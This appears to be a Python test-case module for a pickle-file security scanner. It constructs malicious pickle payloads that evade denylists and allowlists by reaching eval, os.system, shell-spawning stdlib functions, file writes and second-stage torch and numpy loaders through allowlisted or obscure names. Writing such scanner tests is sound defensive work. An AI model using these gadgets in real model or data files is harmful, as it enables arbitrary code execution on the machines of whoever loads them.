"""Gadgets that reach dangerous behaviour through names a denylist may not know.

Three families: names an allowlist glob admits (a class re-exported by an allowlisted
package, or a dotted attribute walk below an allowed class); stdlib functions that run
programs or write files without living in os/subprocess; and second-stage loaders that
hand another file to an unpickler.
"""

from __future__ import annotations

import pickle
import shutil

from . import _asm as a
from ._payloads import Registry, payload_pickle, reduce_object, write
from ._types import Built, Case, Ctx, Live

_reg = Registry()
case = _reg.case


def _shell_call(module: str, name: str, *args: a.Obj, protocol: int = 2) -> bytes:
    func = a.glob(module, name) if protocol < 4 else a.stack_global(module, name)
    return a.wrap(a.call(func, *args), protocol)


# -- allowlist globs: ``sklearn.*`` / ``torch.nn.modules.*`` with ``[A-Z]*`` names ----------


@case("allowlisted-package-reexports-network-client", rules=("pickle.",), min_severity="critical")
def reexported_client(c: Ctx) -> Built:
    """sklearn.callback._transport.Client is multiprocessing.connection.Client: it connects."""
    addr = a.tup(a.ustr("127.0.0.1"), a.integer(c.port))
    data = _shell_call("sklearn.callback._transport", "Client", addr, protocol=4)
    return write(c, "client.pkl", data, live=Live("pickle", trace="port"))


@case("allowlisted-class-dotted-method-writes-file", rules=("pickle.",), min_severity="critical")
def reexported_path(c: Ctx) -> Built:
    """sklearn.datasets._base.Path is pathlib.Path; a dotted name reaches Path.write_text."""
    path = a.call(a.stack_global("sklearn.datasets._base", "Path"), a.ustr(str(c.trace)))
    body = a.call(a.stack_global("sklearn.datasets._base", "Path.write_text"), path, a.ustr("x"))
    return write(c, "path_write.pkl", a.wrap(body, 4))


@case("allowlisted-class-dunder-globals-walk", rules=("pickle.",), min_severity="critical")
def dunder_globals(c: Ctx) -> Built:
    """Linear.__init__.__globals__ -> __builtins__ -> eval, every name under torch.nn.modules.*."""
    mod = "torch.nn.modules.linear"
    builtins_dict = a.call(
        a.stack_global(mod, "Linear.__init__.__globals__.get"), a.ustr("__builtins__")
    )
    get = a.stack_global(mod, "Linear.__init__.__globals__.__class__.get")
    evaluate = a.call(get, builtins_dict, a.ustr("eval"))
    return write(c, "dunder.pkl", a.wrap(evaluate + a.tup(a.ustr(c.expr)) + pickle.REDUCE, 4))


@case("builtins-dict-get-eval", rules=("pickle.",), min_severity="critical")
def builtins_dict(c: Ctx) -> Built:
    """STACK_GLOBAL('builtins', '__dict__.get')('eval'): no denied name is ever spelt out."""
    evaluate = a.call(a.stack_global("builtins", "__dict__.get"), a.ustr("eval"))
    return write(
        c, "builtins_dict.pkl", a.wrap(evaluate + a.tup(a.ustr(c.expr)) + pickle.REDUCE, 4)
    )


@case("private-sys-alias-and-getattribute", rules=("pickle.",), min_severity="critical")
def private_sys_alias(c: Ctx) -> Built:
    """collections._sys.modules.get('os'), then Linear.__getattribute__(os, 'system')."""
    os_mod = a.call(a.stack_global("collections", "_sys.modules.get"), a.ustr("os"))
    getattribute = a.stack_global("torch.nn.modules.linear", "Linear.__getattribute__")
    func = a.call(getattribute, os_mod, a.ustr("system"))
    return write(c, "sys_alias.pkl", a.wrap(func + a.tup(a.ustr(c.shell)) + pickle.REDUCE, 4))


# -- stdlib functions that run programs or touch files -----------------------------------


@case("uuid-get-command-stdout", critical=("uuid._get_command_stdout",))
def uuid_command(c: Ctx) -> Built:
    """uuid (whose UUID class is allowlisted) runs any program on PATH."""
    data = _shell_call("uuid", "_get_command_stdout", a.ustr("touch"), a.ustr(str(c.trace)))
    return write(c, "uuid.pkl", data)


@case("osx-support-read-output", critical=("_osx_support._read_output",))
def osx_support(c: Ctx) -> Built:
    """_osx_support._read_output(cmd) is os.system with a redirect, on every platform."""
    return write(c, "osx.pkl", _shell_call("_osx_support", "_read_output", a.ustr(c.shell)))


@case("pyio-open", critical=("_pyio.open",))
def pyio_open(c: Ctx) -> Built:
    """The pure-Python io module's open()."""
    return write(c, "pyio.pkl", _shell_call("_pyio", "open", a.ustr(str(c.trace)), a.ustr("w")))


@case("gzip-gzipfile-write", critical=("gzip.GzipFile",))
def gzip_file(c: Ctx) -> Built:
    """GzipFile(path, 'wb') creates the file in its constructor."""
    data = _shell_call("gzip", "GzipFile", a.ustr(str(c.trace)), a.ustr("wb"))
    return write(c, "gzipfile.pkl", data)


@case("py-compile-writes-file", critical=("py_compile.compile",))
def py_compile_write(c: Ctx) -> Built:
    src = c.dir / "src.py"
    src.write_text("x = 1\n")
    data = _shell_call("py_compile", "compile", a.ustr(str(src)), a.ustr(str(c.trace)))
    return write(c, "py_compile.pkl", data)


@case("imaplib-imap4-stream", critical=("imaplib.IMAP4_stream",))
def imap_stream(c: Ctx) -> Built:
    """IMAP4_stream(cmd) starts ``cmd`` with a shell to talk IMAP over its pipes."""
    return write(c, "imap.pkl", _shell_call("imaplib", "IMAP4_stream", a.ustr(c.shell)))


@case("multiprocessing-spawnv-passfds", critical=("multiprocessing.util.spawnv_passfds",))
def spawnv_passfds(c: Ctx) -> Built:
    touch = (shutil.which("touch") or "/usr/bin/touch").encode()
    argv = a.lst(a.ubytes(b"touch"), a.ubytes(str(c.trace).encode()))
    data = _shell_call(
        "multiprocessing.util", "spawnv_passfds", a.ubytes(touch), argv, pickle.EMPTY_TUPLE
    )
    return write(c, "spawnv.pkl", data)


@case("trace-trace-run", critical=("trace.Trace", "trace.Trace.run"))
def trace_run(c: Ctx) -> Built:
    tracer = a.call(a.stack_global("trace", "Trace"))
    body = a.call(a.stack_global("trace", "Trace.run"), tracer, a.ustr(c.code))
    return write(c, "trace.pkl", a.wrap(body, 4))


@case("doctest-debug-src", critical=("doctest.debug_src",))
def doctest_debug(c: Ctx) -> Built:
    src = ">>> " + c.expr + "\n"
    return write(c, "doctest.pkl", _shell_call("doctest", "debug_src", a.ustr(src)))


@case("pip-main", critical=("pip.main",))
def pip_main(c: Ctx) -> Built:
    """pip.main(['--log', trace, 'list']): pip can also install anything from anywhere."""
    argv = a.lst(a.ustr("--log"), a.ustr(str(c.trace)), a.ustr("list"))
    return write(c, "pip.pkl", _shell_call("pip", "main", argv))


@case("py2-urllib2-urlopen", critical=("urllib.request.urlopen|urllib2.urlopen",))
def urllib2_urlopen(c: Ctx) -> Built:
    """``urllib2`` is mapped to urllib.request by protocol < 3 loaders."""
    url = a.ustr(f"http://127.0.0.1:{c.port}/")
    timeout = pickle.BINFLOAT + b"?\xf0\x00\x00\x00\x00\x00\x00"  # 1.0
    data = _shell_call("urllib2", "urlopen", url, pickle.NONE, timeout)
    return write(c, "urlopen.pkl", data, live=Live("pickle", trace="port"))


@case("py2-cpickle-loads", critical=("pickle.loads|cPickle.loads",))
def cpickle_loads(c: Ctx) -> Built:
    data = _shell_call("cPickle", "loads", a.ubytes(payload_pickle(c)))
    return write(c, "cpickle.pkl", data)


# -- second stages -----------------------------------------------------------------------


@case("torch-load-second-stage", critical=("torch.load|torch.serialization.load",))
def torch_second_stage(c: Ctx) -> Built:
    """torch.load(stage2, None, pickle): a pickle_module turns weights_only off."""
    import torch

    stage2 = c.dir / "stage2" / "weights.bin"
    stage2.parent.mkdir(parents=True, exist_ok=True)
    torch.save({"hook": reduce_object(c)}, stage2)
    module = a.glob("torch.serialization", "pickle")
    data = _shell_call("torch", "load", a.ustr(str(stage2)), pickle.NONE, module)
    return write(c, "loader.pkl", data)


@case("numpy-load-second-stage", critical=("numpy.load",))
def numpy_second_stage(c: Ctx) -> Built:
    """numpy.load(stage2, None, True): allow_pickle is the third positional argument."""
    import numpy as np

    stage2 = c.dir / "stage2" / "labels.npy"
    stage2.parent.mkdir(parents=True, exist_ok=True)
    arr = np.empty(1, dtype=object)
    arr[0] = reduce_object(c)
    np.save(stage2, arr, allow_pickle=True)
    data = _shell_call("numpy", "load", a.ustr(str(stage2)), pickle.NONE, pickle.NEWTRUE)
    return write(c, "np_loader.pkl", data)


@case("torch-load-from-bytes-trampoline", rules=("pickle.",), min_severity="critical")
def load_from_bytes(c: Ctx) -> Built:
    """torch.storage._load_from_bytes(b) is torch.load(BytesIO(b), weights_only=False):
    allowlisted because plain-pickled tensors use it, it runs whatever torch file ``b`` is."""
    import io

    import torch

    inner = io.BytesIO()
    torch.save({"hook": reduce_object(c)}, inner)
    body = a.call(a.glob("torch.storage", "_load_from_bytes"), a.ubytes(inner.getvalue()))
    return write(c, "from_bytes.pkl", a.wrap(body, 2))


GADGET_CASES: list[Case] = _reg.cases
